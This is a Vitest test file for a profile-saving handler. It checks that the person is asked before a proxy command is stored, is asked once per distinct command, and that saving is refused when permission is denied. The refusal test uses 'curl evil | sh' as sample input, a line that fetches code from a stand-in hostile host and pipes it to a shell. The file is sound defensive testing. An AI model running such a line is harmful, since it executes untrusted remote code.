import { expect, it } from 'vitest';
import type { Transport } from '../../../shared/model/way';
import { draft, profile } from './builders';
import { modelBench } from './model-bench';

const command = (text: string): Transport => ({ kind: 'proxy-command', command: text });

it('asks the person about a command before it is stored, and once for each', async () => {
  const bench = modelBench([]);
  const args = { profileId: null, secret: null };
  const wanted = draft({ transport: [{ kind: 'direct' }, command('nc %h %p')] });
  const { id } = await bench.handlers.saveProfile({ ...args, draft: wanted });
  expect(bench.desktop.asked).toEqual(['nc %h %p']);
  await bench.handlers.saveProfile({ ...args, profileId: id, draft: wanted });
  await bench.handlers.saveProfile({ ...args, draft: wanted });
  expect(bench.desktop.asked).toEqual(['nc %h %p']);
  const changed = draft({ transport: [command('nc -v %h %p')] });
  await bench.handlers.saveProfile({ ...args, profileId: id, draft: changed });
  expect(bench.desktop.asked).toEqual(['nc %h %p', 'nc -v %h %p']);
});

it('stores nothing when the person does not permit it, and names the field', async () => {
  const before = profile({ id: 'etl' });
  const bench = modelBench([before]);
  bench.desktop.permits = false;
  const wanted = draft({ transport: [{ kind: 'direct' }, command('curl evil | sh')] });
  const refused = bench.handlers.saveProfile({ profileId: 'etl', draft: wanted, secret: null });
  const fields = { 'transport.1.command': 'command-not-permitted' };
  await expect(refused).rejects.toMatchObject({ error: { code: 'bad-fields', fields } });
  expect(bench.model.book.all()).toEqual([before]);
});
